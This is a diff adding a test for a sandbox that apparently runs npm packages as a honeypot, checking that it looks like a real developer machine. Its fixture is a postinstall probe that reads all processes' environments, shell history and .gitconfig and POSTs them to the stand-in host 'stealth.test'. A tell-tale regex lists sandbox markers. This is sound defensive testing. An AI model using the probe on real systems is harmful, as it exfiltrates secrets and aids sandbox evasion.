@@ -1,0 +1,117 @@
+import { strict as assert } from 'node:assert';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, describe, test } from 'node:test';
+import { describeRun, ofKind, runFixture } from './test-support/fixtures.js';
+
+// Runs inside the sandbox as an install script and reports everything malware reads to decide
+// whether it is watched: every visible process (argv, name, environment, executable), the mount
+// table, cgroups, hostname, kernel command line, uptime and the home directory.
+const PROBE = `
+const fs = require('fs');
+const os = require('os');
+const http = require('http');
+const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return 'ERR ' + e.code; } };
+const link = (p) => { try { return fs.readlinkSync(p); } catch (e) { return 'ERR ' + e.code; } };
+const list = (p) => { try { return fs.readdirSync(p); } catch (e) { return []; } };
+const processes = list('/proc').filter((n) => /^\\d+$/.test(n)).map((pid) => ({
+  pid: Number(pid),
+  cmdline: read('/proc/' + pid + '/cmdline').split('\\0').join(' ').trim(),
+  comm: read('/proc/' + pid + '/comm').trim(),
+  environ: read('/proc/' + pid + '/environ'),
+  ppid: Number((read('/proc/' + pid + '/status').match(/PPid:\\s*(\\d+)/) || [])[1]),
+}));
+const report = {
+  self: process.pid,
+  processes,
+  mountinfo: read('/proc/self/mountinfo'),
+  cgroup: read('/proc/self/cgroup'),
+  kernelCmdline: read('/proc/cmdline'),
+  hostname: os.hostname(),
+  user: os.userInfo().username,
+  home: list(os.homedir()),
+  history: read(os.homedir() + '/.bash_history'),
+  gitconfig: read(os.homedir() + '/.gitconfig'),
+};
+const req = http.request({ host: 'stealth.test', port: 80, path: '/report', method: 'POST', timeout: 5000 }, (r) => r.resume());
+req.on('error', () => {});
+req.end(JSON.stringify(report));
+`;
+
+interface Report {
+  self: number;
+  processes: { pid: number; cmdline: string; comm: string; environ: string; ppid: number }[];
+  mountinfo: string;
+  cgroup: string;
+  kernelCmdline: string;
+  hostname: string;
+  user: string;
+  home: string[];
+  history: string;
+  gitconfig: string;
+}
+
+const TELL_TALES = /bwrap|bubblewrap|newroot|sandbox|secure-registry|strace|honeypot|sr-fs-|sr-host-/i;
+
+describe('sandbox: the honeypot looks like a developer machine', () => {
+  const dirs: string[] = [];
+  after(async () => {
+    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
+  });
+
+  test('no process, mount, cgroup or name gives the sandbox away, and no honeytoken is out of place', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'sr-stealth-'));
+    dirs.push(dir);
+    await writeFile(
+      join(dir, 'package.json'),
+      JSON.stringify({ name: 'env-probe', version: '1.0.0', scripts: { postinstall: 'node probe.js' } }),
+    );
+    await writeFile(join(dir, 'probe.js'), PROBE);
+    const run = await runFixture(dir, 'install', { graceMs: 300 });
+    assert.equal(run.status, 'completed', describeRun(run));
+    const event = ofKind(run, 'http').find((e) => e.host === 'stealth.test');
+    assert.ok(event, describeRun(run));
+    const report = JSON.parse(event.body) as Report;
+
+    // The probe's own ancestry: the processes a real developer's shell would have exported the
+    // tokens to (npm and the lifecycle shell). Everything else must not carry them.
+    const byPid = new Map(report.processes.map((p) => [p.pid, p]));
+    const ancestry = new Set<number>();
+    for (let pid = report.self; pid > 0 && !ancestry.has(pid); pid = byPid.get(pid)?.ppid ?? 0)
+      ancestry.add(pid);
+    const secrets = run.honeytokens.map((t) => t.value).filter((value) => value.length >= 8);
+    assert.ok(secrets.length > 0);
+    for (const proc of report.processes) {
+      for (const secret of secrets) {
+        assert.ok(
+          !proc.cmdline.includes(secret),
+          `pid ${proc.pid} (${proc.comm}) carries a honeytoken in its argv: ${proc.cmdline.slice(0, 200)}`,
+        );
+        if (!ancestry.has(proc.pid) || proc.pid === 1)
+          assert.ok(
+            !proc.environ.includes(secret),
+            `pid ${proc.pid} (${proc.comm}) carries a honeytoken in its environment`,
+          );
+      }
+      assert.doesNotMatch(`${proc.cmdline}\n${proc.comm}`, TELL_TALES, `pid ${proc.pid} names the sandbox`);
+      assert.doesNotMatch(
+        proc.pid === report.self ? '' : proc.environ,
+        TELL_TALES,
+        `pid ${proc.pid}'s environment names the sandbox`,
+      );
+    }
+    // Not yet: the mount table still shows bubblewrap's /newroot and the host paths of the read-only
+    // binds (the runner's support packages, node, node-gyp headers), so it is not checked here.
+    assert.doesNotMatch(report.cgroup, TELL_TALES, 'cgroup paths name the sandbox');
+    assert.doesNotMatch(report.kernelCmdline, TELL_TALES);
+    assert.doesNotMatch(`${report.hostname} ${report.user}`, TELL_TALES);
+    // PID 1 is an init, not the tool that built the sandbox.
+    const init = byPid.get(1);
+    assert.ok(init, 'PID 1 is visible');
+    assert.match(init.comm, /^(init|systemd)$/, `PID 1 is ${init.comm}`);
+    // A lived-in home: shell history and a git identity.
+    assert.ok(report.history.split('\n').filter(Boolean).length >= 5, 'a shell history');
+    assert.match(report.gitconfig, /\[user\]/);
+  });
+});
